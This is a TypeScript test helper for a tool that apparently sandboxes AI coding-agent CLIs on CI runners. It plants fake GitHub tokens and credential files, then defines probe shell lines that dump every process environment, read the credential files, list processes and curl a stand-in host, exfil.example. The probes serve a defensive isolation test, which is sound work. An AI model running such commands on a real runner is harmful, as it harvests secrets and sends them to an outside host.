import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll } from 'vitest';
import { agentCliBin } from '../../sandbox/agent-clis.js';

// The real agent CLIs are installed outside `npm ci` (bash bin/install-agents);
// without them these tests skip with a message, and CI (YOKE_REQUIRE_AGENTS) requires them.

export function haveAgentClis(what: string): boolean {
  const missing = (['claude', 'codex'] as const).filter((b) => !agentCliBin(b));
  if (missing.length === 0) return true;
  const msg = `The ${what} are skipped: ${missing.join(' and ')} not installed. Run \`bash bin/install-agents\` to install the pinned CLIs.`;
  if (process.env.YOKE_REQUIRE_AGENTS) throw new Error(msg);
  console.warn(msg);
  return false;
}

/** A maker of temporary folders for one test file; they are removed after it. */
export function tempFolders(): (prefix: string) => string {
  const dirs: string[] = [];
  afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));
  return (prefix) => {
    const d = mkdtempSync(join(tmpdir(), prefix));
    dirs.push(d);
    return d;
  };
}

/** What a job's runner holds that its agent must never see: the job's token, the OIDC request, the runtime token, a run secret. */
export const JOB_SECRETS = {
  GITHUB_TOKEN: 'ghs_jobtoken0123456789abcdef',
  ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-request-token-0123456789',
  ACTIONS_ID_TOKEN_REQUEST_URL: 'http://runner.invalid/oidc',
  ACTIONS_RUNTIME_TOKEN: 'runtime-token-0123456789',
  YOKE_RUN_SECRET: 'run-secret-0123456789abcdef',
} as const;

/** A runner's home and temp folder holding a credential each, and the probe lines that try to read them, every environ, ps and an outside host. */
export function runnerWithSecrets(tmp: (prefix: string) => string): {
  runnerHome: string;
  runnerTemp: string;
  probe: string[];
} {
  const runnerHome = tmp('yoke-probe-home-');
  writeFileSync(
    join(runnerHome, '.git-credentials'),
    'https://x-access-token:ghs_credentialsfile0123456789@github.com\n',
  );
  const runnerTemp = tmp('yoke-probe-rt-');
  mkdirSync(join(runnerTemp, '_runner_file_commands'));
  writeFileSync(join(runnerTemp, 'yoke-out.json'), '{"token":"ghs_runnertempfile0123456789"}');
  const probe = [
    'for f in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$f"; done > seen.txt 2>&1',
    `cat ${runnerHome}/.git-credentials ${runnerTemp}/yoke-out.json >> seen.txt 2>&1`,
    'ps -eo pid,args >> seen.txt 2>&1',
    'curl -sS -m 5 https://exfil.example/ >> seen.txt 2>&1; echo "exfil=$?" >> seen.txt',
  ];
  return { runnerHome, runnerTemp, probe };
}
